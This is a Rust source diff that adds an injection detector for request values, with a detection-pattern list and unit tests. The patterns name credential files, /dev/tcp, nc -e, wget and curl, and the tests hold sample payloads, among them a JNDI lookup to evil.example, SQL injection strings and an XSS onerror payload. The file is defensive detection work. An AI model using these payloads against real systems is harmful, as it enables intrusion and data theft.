@@ -1,0 +1,298 @@
+//! What looks like code that somebody wants to be run. This is the second line: whatever has a form
+//! of its own is held against that form first.
+//!
+//! SQL and script are found by libinjection, which reads them as a database and a browser would; the
+//! other families by what no address and no program's name has in it.
+
+use std::panic::catch_unwind;
+
+use memchr::memmem;
+
+/// What kind of code it would be.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(super) enum Family {
+    /// Zero bytes and ends of lines, to be read in two ways.
+    Control,
+    /// Shells and what they start.
+    Command,
+    /// Java's names, lookups and serialized objects.
+    Java,
+    /// LDAP filters.
+    Ldap,
+    /// JavaScript on a server.
+    Node,
+    /// PHP.
+    Php,
+    /// HTML and JavaScript in a browser.
+    Script,
+    /// SQL.
+    Sql,
+    /// Templates.
+    Template,
+    /// Files outside of where one is.
+    Traversal,
+}
+
+/// In lower case. What also occurs in honest names of programs (`curl/8.4`, `{density=2.0}`,
+/// `(compatible; …; +http://…)`) must not match.
+const MARKS: [(Family, &[&str]); 8] = [
+    (
+        Family::Traversal,
+        &[
+            "../",
+            "..\\",
+            "/etc/passwd",
+            "/etc/shadow",
+            "/etc/master.passwd",
+            "/proc/self",
+            "boot.ini",
+            "win.ini",
+            "/.htaccess",
+            "/.git/",
+            "/.env",
+            "file://",
+        ],
+    ),
+    (
+        Family::Command,
+        &[
+            "$(",
+            "`",
+            "() {",
+            "(){",
+            "/bin/sh",
+            "/bin/bash",
+            "/bin/cat",
+            "/bin/ls",
+            "/dev/tcp/",
+            "cmd.exe",
+            "cmd /c",
+            "powershell.exe",
+            "powershell -",
+            "; cat ",
+            ";cat ",
+            "|cat ",
+            "| cat ",
+            "|id",
+            ";wget ",
+            "; wget ",
+            ";curl ",
+            "; curl ",
+            "&& ",
+            "|| ",
+            "$ifs",
+            "${ifs",
+            "nc -e",
+            "<(",
+        ],
+    ),
+    (
+        Family::Php,
+        &[
+            "<?",
+            "php://",
+            "phar://",
+            "expect://",
+            "zip://",
+            "glob://",
+            "data://",
+            "$_get",
+            "$_post",
+            "$_request",
+            "$_server",
+            "$_cookie",
+            "$globals",
+            "eval(",
+            "assert(",
+            "system(",
+            "passthru(",
+            "shell_exec(",
+            "popen(",
+            "proc_open(",
+            "base64_decode(",
+            "phpinfo(",
+            "call_user_func",
+            "file_get_contents(",
+            "create_function(",
+        ],
+    ),
+    (
+        Family::Node,
+        &[
+            "require(",
+            "process.env",
+            "process.main",
+            "child_process",
+            "__proto__",
+            "constructor.prototype",
+            "_$$nd_func$$_",
+            "string.fromcharcode",
+            "function(",
+        ],
+    ),
+    (
+        Family::Java,
+        &[
+            "${",
+            "java.lang.",
+            "java.io.",
+            "java.util.",
+            "javax.naming",
+            "getruntime",
+            "processbuilder",
+            "ognl",
+            "_memberaccess",
+            "ro0ab",
+            "class.classloader",
+            "class.module.classloader",
+        ],
+    ),
+    (Family::Template, &["{{", "}}", "<%", "#{", "*{", "[[${"]),
+    (Family::Ldap, &["*)(", ")(|", ")(&", "(|(", "(&("]),
+    (
+        Family::Script,
+        &[
+            "<script",
+            "javascript:",
+            "vbscript:",
+            "onerror=",
+            "onload=",
+            "<svg",
+            "<iframe",
+        ],
+    ),
+];
+
+/// How often a value is unwrapped: readers behind us do it once, careless ones twice.
+const LAYERS: usize = 2;
+
+/// The first family found in a value, as it stands or percent-encoded.
+pub(super) fn find(value: &[u8]) -> Option<Family> {
+    let mut layer = value.to_ascii_lowercase();
+    let mut found = find_in(&layer);
+    for _ in 0..LAYERS {
+        if found.is_some() || memchr::memchr2(b'%', b'+', &layer).is_none() {
+            break;
+        }
+        let spaced: Vec<u8> = layer
+            .iter()
+            .map(|byte| if *byte == b'+' { b' ' } else { *byte })
+            .collect();
+        layer = decoded(&spaced).unwrap_or(spaced).to_ascii_lowercase();
+        found = find_in(&layer);
+    }
+    found
+}
+
+fn find_in(value: &[u8]) -> Option<Family> {
+    if value
+        .iter()
+        .any(|byte| byte.is_ascii_control() && *byte != b'\t')
+    {
+        return Some(Family::Control);
+    }
+    let is_marked = |mark: &&str| memmem::find(value, mark.as_bytes()).is_some();
+    let marks = MARKS.iter().find(|(_, marks)| marks.iter().any(is_marked));
+    marks.map(|(family, _)| *family).or_else(|| parsed(value))
+}
+
+/// What libinjection says. It is a translation from C that is not above all doubt: where it fails,
+/// that is the answer.
+fn parsed(value: &[u8]) -> Option<Family> {
+    let sql = || libinjectionrs::detect_sqli(value).is_injection();
+    let script = || libinjectionrs::detect_xss(value).is_injection();
+    if catch_unwind(sql).unwrap_or(true) {
+        return Some(Family::Sql);
+    }
+    catch_unwind(script)
+        .unwrap_or(true)
+        .then_some(Family::Script)
+}
+
+/// A value with its percent-encoding undone; none if that is broken.
+pub(super) fn decoded(value: &[u8]) -> Option<Vec<u8>> {
+    let mut plain = Vec::with_capacity(value.len());
+    let mut rest = value;
+    while let Some((byte, after)) = rest.split_first() {
+        rest = after;
+        if *byte != b'%' {
+            plain.push(*byte);
+            continue;
+        }
+        let (digits, after) = rest.split_at_checked(2)?;
+        let digits = std::str::from_utf8(digits).ok()?;
+        // `from_str_radix` takes a sign.
+        if !digits.bytes().all(|digit| digit.is_ascii_hexdigit()) {
+            return None;
+        }
+        plain.push(u8::from_str_radix(digits, 16).ok()?);
+        rest = after;
+    }
+    Some(plain)
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    #[test]
+    fn each_family_is_known_as_it_stands_and_encoded_once_or_twice() {
+        for (family, value) in [
+            (Family::Control, "a\r\nset-cookie: b"),
+            (Family::Control, "a\0b"),
+            (Family::Traversal, "..\\..\\windows\\win.ini"),
+            (Family::Command, "a; cat /etc/hosts"),
+            (Family::Php, "<?php echo 1 ?>"),
+            (Family::Node, "a.__proto__.b"),
+            (Family::Java, "${jndi:ldap://evil.example/a}"),
+            (Family::Template, "{{7*7}}"),
+            (Family::Ldap, "*)(uid=*"),
+            (Family::Script, "<img src=x onerror=alert(1)>"),
+            (Family::Sql, "1' or '1'='1"),
+            (Family::Sql, "-1 union select password from people"),
+        ] {
+            let encode = |text: &str| {
+                let encoded = text
+                    .bytes()
+                    .map(|byte| [b'%', hex(byte >> 4), hex(byte & 15)]);
+                String::from_utf8(encoded.flatten().collect()).unwrap()
+            };
+            let once = encode(value);
+            for layer in [value, &once, &encode(&once)] {
+                assert_eq!(find(layer.as_bytes()), Some(family), "{layer}");
+            }
+        }
+    }
+
+    fn hex(digit: u8) -> u8 {
+        b"0123456789abcdef"[usize::from(digit)]
+    }
+
+    #[test]
+    fn ordinary_words_are_no_code() {
+        for value in [
+            "",
+            "O'Neil",
+            "Mary-Anne d'Angelo",
+            "select a date",
+            "page=2&sort=family",
+            "100%",
+            "a + b",
+            "{density=2.0,width=720}",
+            "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        ] {
+            assert_eq!(find(value.as_bytes()), None, "{value}");
+        }
+    }
+
+    proptest! {
+        /// Whatever is searched, there is an answer; and it is the same for capitals.
+        #[test]
+        fn a_search_always_ends(value in prop::collection::vec(any::<u8>(), 0..200)) {
+            prop_assert_eq!(find(&value), find(&value.to_ascii_uppercase()));
+            prop_assert!(decoded(&value).is_none_or(|plain| plain.len() <= value.len()));
+        }
+    }
+}
